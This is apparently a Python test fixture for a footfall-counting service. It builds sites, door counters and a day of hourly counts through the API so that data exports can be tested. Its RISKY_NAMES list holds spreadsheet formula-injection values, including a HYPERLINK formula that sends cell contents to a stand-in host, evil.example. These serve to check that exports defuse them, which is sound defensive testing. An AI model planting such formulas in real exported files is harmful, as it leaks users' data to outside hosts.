"""A small estate for export tests, built through the API: sites, counters, reported counts."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import update

from footfall.storage.engine import write_tx
from footfall.storage.tables import site
from tests.api.helpers import Tenant, post

DAY = "2024-03-04"  # a Monday
# Site names a spreadsheet would run as formulas if they went out unguarded.
RISKY_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1:A9)",
               "\tTab led", "\rCR led")


@dataclass(frozen=True)
class Estate:
    """What was built: site codes and counter serials."""

    sites: list[str]
    counters: list[str]


def _hour_counts(serial: str, day: str, scale: int) -> list[dict[str, Any]]:
    start = datetime.fromisoformat(day).replace(tzinfo=UTC)
    base = int(start.timestamp())
    return [{"serial": serial, "line": 1, "start": base + hour * 3600, "length": 3600,
             "in": scale * hour, "out": scale * hour - 1 if hour > 8 else 0,
             "staff_in": hour % 3, "staff_out": hour % 2, "source": "device_api"}
            for hour in range(8, 18)]


def build(client: TestClient, tenant: Tenant, risky: bool = False) -> Estate:
    """Two London sites with two counters each and a day of hourly counts (plus risky names)."""
    sites, serials = [], []
    names = ["London Bridge", "Camden"] + (list(RISKY_NAMES) if risky else [])
    for index, name in enumerate(names):
        code = f"LDN{index:02d}"
        created = post(client, tenant, "/sites", {"code": code, "name": name.strip(),
                                                  "timezone": "Europe/London"})
        sites.append(code)
        for door in range(2 if index < 2 else 1):
            serial = f"c{tenant.company_id}s{index}d{door}"
            post(client, tenant, "/counters", {"serial": serial, "name": f"Door {door}",
                                               "site_id": created["id"]})
            serials.append(serial)
    if risky:  # the site API trims names; another path (an import) may not: store them raw
        with write_tx(client.app.state.engine) as conn:  # type: ignore[attr-defined]
            for code, name in zip(sites[2:], RISKY_NAMES, strict=True):
                conn.execute(update(site).where(site.c.company_id == tenant.company_id,
                                                site.c.code == code).values(name=name))
    counts = [c for i, s in enumerate(serials) for c in _hour_counts(s, DAY, i + 1)]
    response = client.post("/api/v1/ingest/counts", json=counts, headers=tenant.headers)
    assert response.status_code == 200, response.text
    return Estate(sites, serials)


def counts_rows(client: TestClient, tenant: Tenant, level: str, ident: str, interval: str,
                first: str = DAY, last: str = DAY) -> list[dict[str, Any]]:
    """The `/api/v1/counts` rows the export must reproduce."""
    response = client.get("/api/v1/counts", headers=tenant.headers, params={
        "level": level, "id": ident, "interval": interval, "from": first, "to": last})
    assert response.status_code == 200, response.text
    return response.json()["data"]
